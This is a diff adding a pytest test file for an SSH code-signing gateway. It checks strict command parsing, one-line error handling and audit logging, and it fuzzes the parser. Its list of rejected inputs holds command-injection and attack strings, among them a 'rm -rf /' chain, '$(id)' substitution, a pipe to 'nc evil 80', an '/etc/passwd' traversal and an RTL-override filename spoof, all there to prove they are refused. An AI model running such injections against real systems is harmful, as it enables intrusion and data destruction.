@@ -1,0 +1,149 @@
+"""The SSH door: strict parsing of SSH_ORIGINAL_COMMAND and the gateway's error discipline
+(non-zero exit, one line on stderr, nothing on stdout, never a traceback)."""
+
+from __future__ import annotations
+
+import shlex
+from pathlib import Path
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from signer import request
+from tests.signer.conftest import Signer, one_line_error
+
+BAD_COMMANDS = [
+    (b"", 64, "no command"),
+    (b"bash", 64, "unknown command"),
+    (b"scp -t /tmp", 64, "unknown command"),
+    (b"sign --profile dev; rm -rf /", 64, "unknown option"),
+    (b"sign --profile 'dev;id'", 64, "bad profile name"),
+    (b"sign --profile $(id)", 64, "bad profile name"),
+    (b"sign --profile `id`", 64, "bad profile name"),
+    (b"sign --profile dev | nc evil 80", 64, "unknown option"),
+    (b"sign --profile dev --format pem", 64, "--format must be cms or raw"),
+    (b"sign --profile dev --profile rsa", 64, "given twice"),
+    (b"sign --format raw", 64, "--profile is required"),
+    (b"sign --profile dev --name 'a\nb'", 64, "control"),
+    (b"sign --profile dev --name 'a\x1b[2Jb'", 64, "control"),
+    (b"sign --profile dev --name 'evil\xe2\x80\xaetxt.exe'", 64, "control"),
+    (b"sign --profile dev --name \xff\xfe", 64, "not valid UTF-8"),
+    (b"sign --profile dev --name '" + b"x" * 10_240 + b"'", 64, "longer than"),
+    (b"sign --profile dev --name '" + b"x" * 300 + b"'", 65, "name longer than 255"),
+    (b"sign --profile dev --name 'unterminated", 64, "cannot split"),
+    (b"status 1234", 64, "bad request id"),
+    (b"status ../../etc/passwd", 64, "bad request id"),
+    (b"fetch", 64, "expects 1 argument"),
+    (b"freeze Dev", 64, "bad profile name"),
+]
+
+
+@pytest.mark.control("SGN-07")
+@pytest.mark.parametrize(("command", "code", "text"), BAD_COMMANDS,
+                         ids=[repr(c[0][:30]) for c in BAD_COMMANDS])
+def test_bad_command_is_one_line_error_without_output(shared: Signer, command: bytes, code: int,
+                                                      text: str) -> None:
+    r = shared.gw(command, b"artifact")
+    assert r.returncode == code
+    assert text in one_line_error(r)
+
+
+@pytest.mark.control("SGN-07")
+def test_daemon_not_running_is_one_line_unavailable(make_signer: object) -> None:
+    s = make_signer(start=False)  # type: ignore[operator]
+    r = s.gw("sign --profile dev", b"data")
+    assert r.returncode == 69
+    assert "daemon is not running" in one_line_error(r)
+
+
+@pytest.mark.control("SGN-02")
+@pytest.mark.parametrize(("command", "kwargs", "code", "text"), [
+    ("sign --profile nope", {}, 64, "unknown profile 'nope'"),
+    ("sign --profile dev", {"client": "build2"}, 77, "'build2' is not allowed"),
+    ("sign --profile dev", {"client": "intruder"}, 77, "unknown client 'intruder'"),
+    ("sign --profile rawonly --format cms", {}, 77, "format 'cms' is not allowed"),
+    ("requests", {}, 77, "not a command for a client"),
+    ("freeze dev", {}, 77, "not a command for a client"),
+    ("unlock", {}, 77, "not a command for a client"),
+    ("sign --profile dev", {"custodian": "alice"}, 77, "not a command for a custodian"),
+    ("sign --profile dev", {"client": None, "custodian": "build1"}, 77, "unknown custodian"),
+])
+def test_policy_refusals_are_one_line_and_audited(shared: Signer, command: str,
+                                                 kwargs: dict[str, str], code: int,
+                                                 text: str) -> None:
+    before = len(shared.events("deny"))
+    r = shared.gw(command, b"artifact", **kwargs)
+    assert r.returncode == code
+    assert text in one_line_error(r)
+    deny = shared.events("deny")
+    assert len(deny) == before + 1 and deny[-1]["reason"].startswith(command.split()[0] + ":")
+
+
+@pytest.mark.control("SGN-07")
+def test_names_are_escaped_in_the_audit_log(signer: Signer) -> None:
+    name = 'app "v1" é ✓ \\ {"seq": 99}'
+    r = signer.gw(f"sign --profile dev --format raw --name {shlex.quote(name)}", b"x")
+    assert r.returncode == 0, r.stderr
+    raw = signer.audit_log.read_bytes()
+    assert raw.isascii()
+    (entry,) = signer.events("sign")
+    assert entry["name"] == name
+    show = signer.lab.signer("audit", "show", signer.audit_log)
+    assert show.returncode == 0 and len(show.stdout.splitlines()) == len(raw.splitlines())
+
+
+# --- the parser, exhaustively --------------------------------------------------------------
+
+@pytest.mark.control("SGN-07")
+@settings(max_examples=400, deadline=None)
+@given(st.binary(max_size=600) | st.text(max_size=300).map(str.encode))
+def test_parser_accepts_or_refuses_cleanly_any_bytes(raw: bytes) -> None:
+    try:
+        cmd = request.parse(raw)
+    except request.ParseError as exc:
+        assert exc.code in (64, 65)
+        return
+    assert request.from_wire(request.to_wire(cmd)) == cmd
+
+
+_token = st.sampled_from(["sign", "status", "fetch", "approve", "freeze", "thaw", "requests",
+                          "unlock", "--profile", "--format", "--name", "dev", "cms", "raw",
+                          "0" * 32, ";", "|", "$(id)", "'", '"', "\\", "\n", "\x00", "é",
+                          "\u202e"])
+
+
+@pytest.mark.control("SGN-07")
+@settings(max_examples=400, deadline=None)
+@given(st.lists(_token | st.text(max_size=8), max_size=8),
+       st.text(max_size=40))
+def test_parsed_sign_requests_only_carry_clean_values(tokens: list[str], name: str) -> None:
+    raw = " ".join([*tokens, "--name", shlex.quote(name)]).encode()
+    try:
+        cmd = request.parse(raw)
+    except request.ParseError:
+        return
+    if isinstance(cmd, request.Sign):
+        assert request.PROFILE_RE.fullmatch(cmd.profile)
+        assert cmd.format in ("cms", "raw")
+        assert not any(c in cmd.name for c in "\n\r\x00\x1b\u2028\u202e")
+
+
+def test_unknown_wire_fields_and_bad_values_are_refused_by_the_daemon_side() -> None:
+    with pytest.raises(request.ParseError):
+        request.from_wire({"cmd": "sign", "profile": "dev", "format": "pem", "name": ""})
+    with pytest.raises(request.ParseError):
+        request.from_wire({"cmd": "sign", "profile": "dev", "format": "raw", "name": "a\nb"})
+    with pytest.raises(request.ParseError):
+        request.from_wire({"cmd": "shell"})
+
+
+def test_gateway_reads_only_the_socket_from_the_config(shared: Signer, tmp_path: Path) -> None:
+    """The gateway account may not read the whole config; a config it cannot parse is one
+    line too."""
+    bad = tmp_path / "bad.toml"
+    bad.write_text("[daemon\n")
+    env = {"SSH_ORIGINAL_COMMAND": "sign --profile dev"}
+    r = shared.lab.signer("gateway", "--client", "build1", "--config", bad, env=env)
+    assert r.returncode == 78
+    one_line_error(r)
